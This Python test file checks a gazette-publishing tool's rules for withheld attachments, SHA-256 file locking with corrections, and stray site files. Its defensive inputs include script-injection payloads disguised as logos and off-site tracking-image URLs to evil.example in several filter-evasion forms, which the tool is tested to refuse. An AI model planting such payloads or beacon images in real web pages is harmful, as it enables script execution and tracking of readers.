# ---- withheld with their document ---------------------------------------------------------------------

def test_a_withheld_documents_attachments_are_never_published(repo: Repo):
    attached(repo)
    repo.replace(DOC, "type: 规范性文件", "type: 其他文件")
    repo.replace(DOC, "disclosure: 主动公开", "disclosure: 不予公开\ndisclosure_reason: 涉及国家秘密（第十四条）")
    checked = repo.check()
    assert checked.archive.documents[0].attachments  # checked all the same
    assert urls.attachment_files(checked.archive.public(), checked.settings.issuer_codes) == {}


def test_a_partly_public_documents_attachments_say_each_whether_it_is_published(repo: Repo):
    repo.replace(DOC, "disclosure: 主动公开", "disclosure: 部分公开\ndisclosure_reason: 涉及个人隐私（第十五条）")
    repo.replace(DOC, "各地各部门要加强统筹。", "【不予公开】名单【/不予公开】各地各部门要加强统筹。")
    repo.write(PDF_PATH, pdf())
    repo.write("gazette/2018/06/xzbf-68/名单.pdf", pdf("names"))
    declare(repo, "  - {file: xzbf-68/附件1.pdf, title: 附件1}\n  - {file: xzbf-68/名单.pdf, title: 附件2}\n")
    assert len([e for e in errors(repo) if "须写明 disclosure" in e]) == 2
    repo.replace(DOC, "title: 附件1}", "title: 附件1, disclosure: 主动公开}")
    repo.replace(DOC, "title: 附件2}", "title: 附件2, disclosure: 不予公开}")
    checked = repo.check()
    assert errors(repo) == []
    assert list(urls.attachment_files(checked.archive.public(), checked.settings.issuer_codes)) == [
        "doc/xzbf/2018/68/files/附件1.pdf"]
    (entry,) = [lock.entry(d) for d in checked.archive.public().documents]
    assert [name for name, _, _ in entry.files] == ["附件1.pdf"]


def test_disclosure_on_an_attachment_of_a_fully_public_document_is_refused(repo: Repo):
    repo.write(PDF_PATH, pdf())
    declare(repo, "  - {file: xzbf-68/附件1.pdf, title: 附件1, disclosure: 不予公开}\n")
    assert any("只有部分公开的文件才逐个标注附件" in e for e in errors(repo))


OTHER = "gazette/2018/06/xzbh-70.md"


def other_document(repo: Repo, entries: str) -> None:
    """A second, public document in the same issue folder, listing ``entries`` as its attachments."""
    repo.write(OTHER, DOC_TEXT.replace("锡政办发〔2018〕68号", "锡政办函〔2018〕70号").replace("规范性文件", "其他文件")
               .replace("\n---\n", f"\nattachments:\n{entries}---\n", 1))


@pytest.mark.parametrize("withheld", ["document", "attachment"])
def test_a_file_one_page_withholds_is_not_published_by_another(repo: Repo, withheld: str):
    """A file a page withholds (every file of a 不予公开 document; a 部分公开 document's file marked 不予公开) was
    published all the same when a second page listed it: copied into site/ at that page's files/."""
    if withheld == "document":
        repo.replace(DOC, "type: 规范性文件", "type: 其他文件")
        repo.replace(DOC, "disclosure: 主动公开", "disclosure: 不予公开\ndisclosure_reason: 涉及个人隐私（第十五条）")
        repo.write("gazette/2018/06/xzbf-68/名单.pdf", pdf("names"))
        declare(repo, "  - {file: xzbf-68/名单.pdf, title: 附件2}\n")
    else:
        repo.replace(DOC, "disclosure: 主动公开", "disclosure: 部分公开\ndisclosure_reason: 涉及个人隐私（第十五条）")
        repo.replace(DOC, "各地各部门要加强统筹。", "【不予公开】名单【/不予公开】各地各部门要加强统筹。")
        repo.write("gazette/2018/06/xzbf-68/名单.pdf", pdf("names"))
        declare(repo, "  - {file: xzbf-68/名单.pdf, title: 附件2, disclosure: 不予公开}\n")
    other_document(repo, "  - {file: xzbf-68/名单.pdf, title: 附件：名单}\n")
    found = errors(repo, "withheld-file")
    assert len(found) == 1 and found[0].startswith(f"{OTHER}:") and "xzbf-68/名单.pdf" in found[0]
    assert DOC in found[0] and "不予公开" in found[0]
    # a copy of its bytes under another name: the same content, when an attachment was marked 不予公开; a withheld
    # document's copy of a form does not keep another page from publishing that form
    repo.write("gazette/2018/06/xzbh-70/名单副本.pdf", pdf("names"))
    other_document(repo, "  - {file: xzbh-70/名单副本.pdf, title: 附件：名单}\n")
    found = errors(repo, "withheld-file")
    if withheld == "attachment":
        assert len(found) == 1 and found[0].startswith(f"{OTHER}:") and "内容相同" in found[0] and "xzbf-68/名单.pdf" in found[0]
    else:
        assert found == []
    os.remove(repo.path / "gazette/2018/06/xzbh-70/名单副本.pdf")
    # its own file instead: published
    repo.write("gazette/2018/06/xzbh-70/附件.pdf", pdf())
    other_document(repo, "  - {file: xzbh-70/附件.pdf, title: 附件：名单（已去除个人信息）}\n")
    assert errors(repo, "withheld-file") == []


# ---- locked: each file's SHA-256, changed only by a correction ----------------------------------------

def locked(repo: Repo) -> None:
    checked = repo.check()
    found = lock.changes(lock.load(repo.path)[0], lock.pages(checked.archive, checked.settings.issuer_codes))
    (repo.path / lock.FILENAME).write_text(lock.updated(lock.load(repo.path)[0], found, TODAY).dumps(), encoding="utf-8")


def test_the_lock_records_each_file(repo: Repo):
    attached(repo)
    locked(repo)
    entry = json.loads((repo.path / lock.FILENAME).read_text())["urls"]["doc/xzbf/2018/68/"]
    assert entry["files"] == {"附件1.pdf": {"bytes": len(pdf()), "sha256": lock.entry(repo.check().archive.documents[0]).files[0][1],
                                           "title": "附件1：考核办法"}}
    assert "files" not in json.loads((repo.path / lock.FILENAME).read_text())["urls"]["gazette/2018/06/"]
    assert errors(repo, "lock") == []


def test_a_changed_file_without_a_correction_is_an_error_naming_it(repo: Repo):
    attached(repo)
    locked(repo)
    repo.write(PDF_PATH, pdf("changed"))
    (found,) = errors(repo, "lock")
    assert found.startswith(f"{DOC}:") and "附件 附件1.pdf 被改动" in found and "没有勘误记录" in found


def test_a_file_added_to_a_published_page_needs_a_correction(repo: Repo):
    locked(repo)
    attached(repo)
    (found,) = errors(repo, "lock")
    assert "附件 附件1.pdf 新增，但没有勘误记录" in found
    repo.replace(DOC, "section: 市政府办公室文件", "section: 市政府办公室文件\ncorrections:\n"
                                                 "  - {date: 2026-12-01, change: 补发附件1, reason: 发布时遗漏}")
    assert errors(repo, "lock") == []


def test_a_published_file_is_never_removed_even_with_a_correction(repo: Repo):
    attached(repo)
    locked(repo)
    repo.replace(DOC, "attachments:\n  - file: xzbf-68/附件1.pdf\n    title: 附件1：考核办法\n",
                 "corrections:\n  - {date: 2026-12-01, change: 删去附件1, reason: 误发}\n")
    os.remove(repo.path / PDF_PATH)
    (found,) = errors(repo, "lock")
    assert "已发布的附件 附件1.pdf 被删除" in found


def _hand_edited(repo: Repo, edit) -> list[str]:
    """The lock rule's findings once ``edit`` changed the locked entry of the page with 附件1 by hand (its JSON), the
    lock before the edit being the published one."""
    attached(repo)
    locked(repo)
    published = lock.load(repo.path)[0]
    data = json.loads((repo.path / lock.FILENAME).read_text())
    edit(data["urls"]["doc/xzbf/2018/68/"])
    (repo.path / lock.FILENAME).write_text(json.dumps(data, ensure_ascii=False, indent=2))
    return [str(d) for d in check(repo.path, today=repo.check().today, published=(published, [])).diagnostics
            if d.rule == "lock"]


def test_a_renumbered_pages_files_stay_at_the_url_they_were_published_at(repo: Repo):
    """A published file's URL never vanishes: renumbered (previous_urls, a 勘误), the page's old URL got a redirect page,
    but its files, locked under the old URL's entry, were published only under the new one: the old links (a court's
    copy of 附件1) ended in 404, with 0 errors."""
    attached(repo)
    locked(repo)
    repo.replace(DOC, "doc_number: 锡政办发〔2018〕68号", "doc_number: 锡政办发〔2018〕86号\nprevious_urls: [doc/xzbf/2018/68/]")
    repo.replace(DOC, "section: 市政府办公室文件", "section: 市政府办公室文件\ncorrections:\n"
                                                 "  - {date: 2026-12-01, change: 文号由68号更正为86号, reason: 录入错误}")
    jd = "interpretations/xzbf-68-jd.md"  # moved with it
    repo.replace(jd, "〔2018〕68号", "〔2018〕86号")
    repo.replace(jd, "kind: 文字解读", "kind: 文字解读\ncorrections: [{date: 2026-12-01, change: 文号更正, reason: 录入错误}]")
    checked = repo.check()
    assert errors(repo, "lock") == []
    made = site.outputs(checked.archive, checked.settings, TODAY)
    (a,) = checked.archive.documents[0].attachments
    assert made.attachments == {"doc/xzbf/2018/86/files/附件1.pdf": a, "doc/xzbf/2018/68/files/附件1.pdf": a}
    # and the twins: the old URL's index.txt is the text a copy cited with it is checked against
    for twin in ("index.txt", "index.json"):
        assert made.files[f"doc/xzbf/2018/68/{twin}"] == made.files[f"doc/xzbf/2018/86/{twin}"]
        assert made.files[f"doc/xzbf/2018/68/jiedu/xzbf-68-jd/{twin}"] == made.files[f"doc/xzbf/2018/86/jiedu/xzbf-68-jd/{twin}"]
    assert "doc/xzbf/2018/68/index.txt" in twins.paths(checked.archive.public(), checked.settings)


def test_a_hand_edit_of_the_files_map_weakens_the_lock(repo: Repo):
    found = _hand_edited(repo, lambda entry: entry.pop("files"))
    assert any("附件 附件1.pdf 的记录被删除" in f for f in found)


def test_a_changed_file_title_without_a_correction_is_an_error(repo: Repo):
    """The title is what the page lists and prints for the file (附件1：……办法): it changed without a 勘误,
    the lock recording only the file's bytes."""
    attached(repo)
    locked(repo)
    repo.replace(DOC, "title: 附件1：考核办法", "title: 附件1：考核办法（已废止）")
    (found,) = errors(repo, "lock")
    assert found.startswith(f"{DOC}:") and "附件 附件1.pdf 的标题被改动" in found and "没有勘误记录" in found
    assert "“附件1：考核办法”" in found and "“附件1：考核办法（已废止）”" in found
    repo.replace(DOC, "section: 市政府办公室文件", "section: 市政府办公室文件\ncorrections:\n"
                                                 "  - {date: 2026-12-01, change: 附件1标题更正, reason: 原标题有误}")
    assert errors(repo, "lock") == []


def test_a_hand_edit_of_a_locked_file_title_weakens_the_lock(repo: Repo):
    def untitled(entry):
        assert entry["files"]["附件1.pdf"].pop("title") == "附件1：考核办法"
    found = _hand_edited(repo, untitled)
    assert any("附件 附件1.pdf 的标题" in f and "改弱" in f for f in found)


def test_an_entry_locked_without_file_titles_is_read_and_upgraded(repo: Repo):
    """Entries written before titles were locked stay valid; gongbao lock --write records the titles."""
    attached(repo)
    locked(repo)
    data = json.loads((repo.path / lock.FILENAME).read_text())
    del data["urls"]["doc/xzbf/2018/68/"]["files"]["附件1.pdf"]["title"]
    (repo.path / lock.FILENAME).write_text(json.dumps(data, ensure_ascii=False, indent=2))
    assert errors(repo, "lock") == []
    repo.replace(DOC, "title: 附件1：考核办法", "title: 附件1：考核办法（改）")
    assert errors(repo, "lock") == []  # nothing recorded to compare with
    locked(repo)
    data = json.loads((repo.path / lock.FILENAME).read_text())
    assert data["urls"]["doc/xzbf/2018/68/"]["files"]["附件1.pdf"]["title"] == "附件1：考核办法（改）"


def test_a_new_entry_written_by_hand_without_file_titles_is_refused(repo: Repo):
    """A page new since the last published lock, its entry without its files' titles, was taken for one written before
    titles were locked: once published, 附件1's title changed with 0 errors."""
    attached(repo)
    locked(repo)
    data = json.loads((repo.path / lock.FILENAME).read_text())
    published = lock.parse(json.dumps({**data, "urls": {u: e for u, e in data["urls"].items()
                                                        if not u.startswith("doc/xzbf/2018/68/")}}), "site/gazette.lock.json")[0]
    del data["urls"]["doc/xzbf/2018/68/"]["files"]["附件1.pdf"]["title"]
    (repo.path / lock.FILENAME).write_text(json.dumps(data, ensure_ascii=False, indent=2))
    found = [str(d) for d in check(repo.path, today=TODAY, published=(published, [])).diagnostics if d.rule == "lock"]
    assert len(found) == 1 and "新增的条目 doc/xzbf/2018/68/ 不是 gongbao lock --write 写的：附件 附件1.pdf 没有标题" in found[0]


@pytest.mark.parametrize("files", [[], {"a.pdf": {"bytes": -1, "sha256": "0" * 64}}, {"a.pdf": {"sha256": "0" * 64}},
                                   {"a.pdf": {"bytes": 1, "sha256": "xyz"}}])
def test_a_malformed_files_map_is_an_error_at_its_line(repo: Repo, files):
    attached(repo)
    locked(repo)
    data = json.loads((repo.path / lock.FILENAME).read_text())
    data["urls"]["doc/xzbf/2018/68/"]["files"] = files
    (repo.path / lock.FILENAME).write_text(json.dumps(data, ensure_ascii=False, indent=2))
    text = (repo.path / lock.FILENAME).read_text().split("\n")
    found = [e for e in errors(repo, "lock") if "files 应为" in e]
    assert len(found) == 1 and text[int(found[0].split(":")[1]) - 1].strip().startswith('"files"')


# ---- content/ and images ------------------------------------------------------------------------------

def test_files_in_content_are_refused_unless_the_site_names_them(repo: Repo):
    repo.write("mkdocs.yml", "site_name: x\nextra_css:\n  - assets/site.css\ntheme:\n  name: material\n  logo: assets/logo.png\n")
    repo.write("content/assets/site.css", "body{}")
    repo.write("content/assets/logo.png", png())
    repo.write("content/files/附件1.pdf", pdf())
    repo.write("content/notes.txt", "draft")
    # not a page to MkDocs, which copied it as it is, script and withheld passage: no check had read it
    repo.write("content/secret.MD", "<script>alert(1)</script>\n\n【不予公开】内部【/不予公开】\n")
    found = errors(repo, "site-files")
    assert [e.split(":")[0] for e in found] == ["content/files/附件1.pdf", "content/notes.txt", "content/secret.MD"]
    assert "不经检查、不入锁定文件地原样发布" in found[0]


def test_the_footer_logo_named_in_gazette_yml_may_stay_in_content(repo: Repo):
    repo.replace("gazette.yml", "issuers:", "footer: {gov_logo: assets/dzjg.png}\nissuers:")
    repo.write("content/assets/dzjg.png", png())
    assert errors(repo, "site-files") == []


@pytest.mark.parametrize("name,data", [
    # application/atom+xml: a browser that reads it as XML runs the XHTML script, on the site's origin, without the CSP
    ("assets/dzjg.atom", b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>'),
    ("assets/dzjg.js", b"alert(document.domain)"),  # a script of the site's own origin ('self')
    ("assets/dzjg.pdf", pdf()),
    ("assets/dzjg.png", b"<html><script>alert(1)</script></html>"),  # named as an image, not one
])
def test_the_footer_logo_is_a_png_or_jpeg_by_its_bytes(repo: Repo, name, data):
    repo.replace("gazette.yml", "issuers:", f"footer: {{gov_logo: {name}}}\nissuers:")
    repo.write(f"content/{name}", data)
    assert [e.split(":")[0] for e in errors(repo, "site-files")] == [f"content/{name}"]


@pytest.mark.parametrize("body", ["![图](https://tracker.example/p.png)", '<img src="//evil.example/p.png">',
                                  '<img src="/\\evil.example/p.png">', '<img src="&#104;ttps://evil.example/p.png">',
                                  '![图](files/a.png){: src="http://evil.example/p.png" }',
                                  '<img src=" https://evil.example/p.png">',
                                  "![图][1]\n\n[1]: https://evil.example/p.png", "![Chart]\n\n[chart]: //evil.example/p.png"])
def test_an_image_from_another_site_is_refused(body):
    assert any("不在本站" in message for _, message, _ in body_problems(body))


@pytest.mark.parametrize("body", ["![图](/doc/xzbf/2018/68/files/图1.png)", '<img src="files/图1.png" alt="图1">',
                                  "[附件](https://www.gov.cn/a.pdf)", "![图](files/a.png) [网站][1]\n\n[1]: https://www.gov.cn/"])
def test_images_from_the_site_and_links_elsewhere_pass_the_source_rule(body):
    assert body_problems(body) == []


def test_a_body_image_must_be_a_declared_file(repo: Repo):
    repo.write("interpretations/jd/图1.png", png())
    declare(repo, "  - {file: jd/图1.png, title: 图1：流程}\n", path=JD, key="images")
    repo.replace(JD, "## 一、背景依据", "![图1](/doc/xzbf/2018/68/jiedu/xzbf-68-jd/files/图1.png)\n"
                                    "![图2](/doc/xzbf/2018/68/jiedu/xzbf-68-jd/files/图2.png)\n## 一、背景依据")
    found = errors(repo, "links")
    assert len(found) == 1 and "files/图2.png" in found[0]


@pytest.mark.parametrize("src", ["https://evil.example/p.png", "//evil.example/p.png", "/\\evil.example/p.png",
                                 "&#104;ttps://evil.example/p.png"])
def test_the_published_page_check_refuses_an_off_site_image_however_markdown_made_it(src):
    assert rendered_html.violations(f'<p><img alt="图" src="{src}"></p>', Counter())
    assert not rendered_html.violations('<p><img alt="图" src="files/a.png"></p>', Counter())


def test_a_lock_line_is_the_entrys_own_key_not_a_files(repo: Repo):
    attached(repo)
    locked(repo)
    text = (repo.path / lock.FILENAME).read_text(encoding="utf-8")
    entry = lock.parse(text)[0]
    lines = text.split("\n")
    at = entry.line("doc/xzbf/2018/68/", "sha256")
    assert lines[at - 1].startswith('      "sha256"') and lines[entry.line("doc/xzbf/2018/68/", "files") - 1].strip() == '"files": {'


def test_an_interpretation_images_alt_text_is_locked_too(repo: Repo):
    """An image's title is its alt text and caption on the interpretation's page (ported from h/int's test)."""
    repo.write("interpretations/xzbf-68-jd/图.png", png())
    declare(repo, "  - file: xzbf-68-jd/图.png\n    title: 示例长图\n", JD, "images")
    locked(repo)
    repo.replace(JD, "title: 示例长图", "title: 另一幅图")
    (found,) = errors(repo, "lock")
    assert found.startswith(f"{JD}:") and "图.png 的标题被改动" in found
